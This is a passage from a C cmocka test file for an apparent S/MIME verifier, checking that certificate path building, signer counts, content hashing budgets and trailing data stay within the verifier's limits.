static void paths_that_are_given_up(void **state)
{
	enum { N = 7 };
	const struct smime_request q = { .trust = people.trust, .time_us = people.now_us };
	struct cert_made first[N], all[N * N], leaf;
	struct verify_budget budget = {};
	CLEANUP(buf_done) struct buf der = {};
	char names[N][32];
	struct cms cms;

	(void)state;
	for (size_t i = 0; i < N; i++) {
		(void)snprintf(names[i], sizeof names[i], "CN=%zu", i);
		first[i] = cert_make(
			&(struct cert_order){ .subject = names[i], .is_authority = true });
	}
	for (size_t i = 0; i < N * N; i++)
		all[i] = cert_make(&(struct cert_order){
			.subject = names[i % N],
			.use_key = first[i % N].key,
			.issuer = &first[i / N],
			.is_authority = true,
		});
	leaf = cert_make(&(struct cert_order){
		.subject = "CN=leaf", .names = "email:alice@example.org", .issuer = &first[0] });
	fixture_sign_with_der(HELLO, &leaf, all, N * N, &der);
	assert_int_equal(cms_parse(buf_span(&der), &cms, NULL), 0);
	for (int i = 0; i < 5; i++) {
		struct smime_report report = { .layers = alloc_zero(sizeof *report.layers),
			.n_layers = 1 };
		const struct smime_signer *signer;

		assert_int_equal(verify_signers(&q, &cms.signed_data, cms.signed_data.content,
					 &budget, &report.layers[0]),
			0);
		signer = &report.layers[0].signers[0];
		assert_int_not_equal(signer->verdict, SMIME_SIGNER_OK);
		assert_int_equal(signer->path.n > 0, i < 4);
		smime_report_done(&report);
	}
	cms_done(&cms);
	cert_made_done(&leaf);
	for (size_t i = 0; i < N; i++)
		cert_made_done(&first[i]);
	for (size_t i = 0; i < N * N; i++)
		cert_made_done(&all[i]);
}

/* Each of many signers has a certificate that leads nowhere: only some are looked at. */
static void many_signers_with_bad_certificates(void **state)
{
	const struct cert_order order = { .subject = "CN=x", .names = "email:alice@example.org" };
	CLEANUP(buf_done) struct buf m = {};
	struct smime_result result;
	size_t n_unread = 0;

	(void)state;
	buf_add_string(&m, FROM_ALICE "Content-Type: multipart/mixed; boundary=x\r\n\r\n");
	for (int i = 0; i < VERIFY_COST_MAX + 5; i++) {
		struct cert_made made = cert_make(&order);

		buf_add_string(&m, "--x\r\n");
		fixture_sign(HELLO, &made, 0, &m);
		cert_made_done(&made);
	}
	buf_add_string(&m, "--x--\r\n");
	result = read_it(&m);
	assert_int_equal(result.report.n_layers, VERIFY_COST_MAX + 5);
	for (size_t i = 0; i < result.report.n_layers; i++) {
		assert_int_not_equal(result.report.layers[i].signers[0].verdict, SMIME_SIGNER_OK);
		n_unread += result.report.layers[i].signers[0].verified_at_us == 0;
	}
	assert_int_equal(n_unread, 5);
	smime_result_done(&result);
}

/* How much of the content is hashed for n signatures of one digest over it. */
static uint64_t hashed_for(size_t n, unsigned flags, uint64_t hashed_before,
	enum smime_signer_verdict verdict)
{
	static uint8_t octets[100000];
	const struct smime_request q = { .trust = people.trust, .time_us = people.now_us };
	struct verify_budget budget = { .hashed = hashed_before };
	CLEANUP(buf_done) struct buf der = {};
	struct smime_report report = { .layers = alloc_zero(sizeof *report.layers), .n_layers = 1 };
	struct cms cms;

	memset(octets, 'x', sizeof octets);
	fixture_sign_often_der(span_of(octets, sizeof octets), &people.bob, n, flags, &der);
	assert_int_equal(cms_parse(buf_span(&der), &cms, NULL), 0);
	assert_int_equal(verify_signers(&q, &cms.signed_data, cms.signed_data.content, &budget,
				 &report.layers[0]),
		0);
	assert_int_equal(report.layers[0].n_signers, n);
	for (size_t i = 0; i < n; i++)
		assert_int_equal(report.layers[0].signers[i].verdict, verdict);
	cms_done(&cms);
	smime_report_done(&report);
	return budget.hashed - hashed_before;
}

/* Each of many signatures is over the content itself, which is large: it is hashed once, and only
 * so much in a message. */
static void many_signatures_over_much(void **state)
{
	(void)state;
	assert_int_equal(hashed_for(LIMIT_SMIME_SIGNERS, FIXTURE_NO_ATTRIBUTES, 0, SMIME_SIGNER_OK),
		100000);
	assert_int_equal(hashed_for(LIMIT_SMIME_SIGNERS, 0, 0, SMIME_SIGNER_OK), 100000);
	assert_int_equal(hashed_for(2, FIXTURE_NO_ATTRIBUTES | FIXTURE_PSS, 0, SMIME_SIGNER_OK),
		100000);
	assert_int_equal(hashed_for(3, FIXTURE_NO_ATTRIBUTES, VERIFY_HASHED_MAX - 100000,
				 SMIME_SIGNER_OK),
		100000);
	assert_int_equal(hashed_for(3, FIXTURE_NO_ATTRIBUTES, VERIFY_HASHED_MAX - 99999,
				 SMIME_SIGNER_UNSUPPORTED),
		0);
	assert_int_equal(
		hashed_for(3, 0, VERIFY_HASHED_MAX - 99999, SMIME_SIGNER_UNSUPPORTED), 0);
}

static void trailing_octets(void **state)
{
	CLEANUP(buf_done) struct buf der = {};
	CLEANUP(buf_done) struct buf m = {};

	(void)state;
	fixture_sign_der(HELLO, &people.alice, 0, &der);
	buf_add(&der, SPAN("\0\0"));
	buf_add_string(&m, FROM_ALICE);
	fixture_wrap(buf_span(&der), &m);
	assert_int_equal(status_of(&m, NULL), SMIME_STATUS_UNREADABLE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(efail_direct_exfiltration),
		cmocka_unit_test(efail_cbc_gadget),
		cmocka_unit_test(changed_ciphertext_is_not_released),
		cmocka_unit_test(no_oracle),
		cmocka_unit_test(downgrade_of_authentication),
		cmocka_unit_test(short_tag),
		cmocka_unit_test(other_algorithm),
		cmocka_unit_test(covert_content),
		cmocka_unit_test(partly_signed),
		cmocka_unit_test(signed_attachment),
		cmocka_unit_test(foreign_signature_in_attached_message),
		cmocka_unit_test(several_authors),
		cmocka_unit_test(foreign_signer),
		cmocka_unit_test(name_like_an_address),
		cmocka_unit_test(third_part),
		cmocka_unit_test(text_around_parts),
		cmocka_unit_test(content_type_confusion),
		cmocka_unit_test(content_in_detached_signature),
		cmocka_unit_test(signature_without_content),
		cmocka_unit_test(no_signers),
		cmocka_unit_test(empty_signed_part),
		cmocka_unit_test(attributes_as_content),
		cmocka_unit_test(two_signatures),
		cmocka_unit_test(signed_ciphertext),
		cmocka_unit_test(old_signature_with_new_date),
		cmocka_unit_test(layers_without_end),
		cmocka_unit_test(many_layers_beside_each_other),
		cmocka_unit_test(decompression_bomb),
		cmocka_unit_test(many_recipients),
		cmocka_unit_test(many_recipients_that_are_one),
		cmocka_unit_test(many_signers),
		cmocka_unit_test(many_certificates),
		cmocka_unit_test(paths_that_are_given_up),
		cmocka_unit_test(many_signers_with_bad_certificates),
		cmocka_unit_test(many_signatures_over_much),
		cmocka_unit_test(trailing_octets),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, setup, teardown);
}
